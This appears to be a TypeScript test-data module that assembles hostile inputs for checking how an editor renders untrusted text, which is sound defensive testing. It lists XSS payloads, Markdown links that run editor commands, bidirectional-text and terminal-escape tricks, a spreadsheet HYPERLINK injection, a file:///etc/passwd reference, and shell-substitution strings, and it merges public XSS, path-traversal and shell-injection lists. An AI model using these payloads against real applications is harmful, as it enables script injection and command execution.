import { members, texts } from './corpora';

/*
 * Every text that was written to attack whoever shows it: the public lists together, and a few of our own for what an
 * editor makes of texts (icons, Markdown, links that run commands), which stand alone where the lists are absent.
 */

/** A command that shows whether it ran: it opens a dialog. */
export const tellingCommand = 'workbench.action.showAboutDialog';

export const ownAttacks: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '"><script>alert(1)</script>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<img src="https://example.org/p.gif">',
  '<link rel="preconnect" href="https://example.org"><link rel="stylesheet" href="https://example.org/a.css">',
  '<meta http-equiv="refresh" content="0;url=https://example.org/">',
  '<form action="https://example.org/"><button autofocus>Go</button></form>',
  `<a href="command:${tellingCommand}">run</a>`,
  `[run](command:${tellingCommand}) [run](command:${tellingCommand} "title")`,
  `[run]\u202e(command:${tellingCommand})`,
  `<command:${tellingCommand}> command:${tellingCommand}`,
  `[run][r]\n\n[r]: command:${tellingCommand}`,
  '[click](https://example.org/a) ![](https://example.org/p.png) https://example.org/bare',
  '![image](https://example.org/p.png|width=1) ![][i]\n\n[i]: https://example.org/q.png',
  '$(trash) $(error~spin) \\$(bug) $$(x)',
  '**bold** _it_ ~~gone~~ `code` # no heading\n# heading\n- item\n\n---\n\n| a |\n|---|\n| b |',
  '```\n<img src=x onerror=alert(1)>\n```\n~~~',
  '</details></code></pre><script>alert(1)</script>',
  '&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;',
  'javascript:alert(1) file:///etc/passwd vscode://example.other/run',
  '\u001b]8;;https://example.org\u0007link\u001b]8;;\u0007 \u001b[31m \u0000',
  '\u202egpj.exe\u202c \u2066\u2067 \u200f',
  'one\r\ntwo\u2028three\u2029four\u0085five',
  '{0} {1} {{x}} %s ${alert(1)} $HOME `exit`',
  '=HYPERLINK("https://example.org/"&A1,"x")',
];

const bytes = members('terminal-escapes', 'base64').map((text) =>
  Buffer.from(text, 'base64').toString('latin1'),
);

export const attacks: readonly string[] = [
  ...new Set([
    ...ownAttacks,
    ...['xss-dompurify', 'xss-patt', 'xss-antisamy'].flatMap((name) => members(name, 'html')),
    ...members('trojan-source', 'text'),
    ...['blns', 'csv-injection', 'path-traversal', 'open-redirect', 'shell-injection'].flatMap((name) =>
      texts(name, []),
    ),
    ...bytes,
  ]),
].filter((text) => text.trim() !== '');
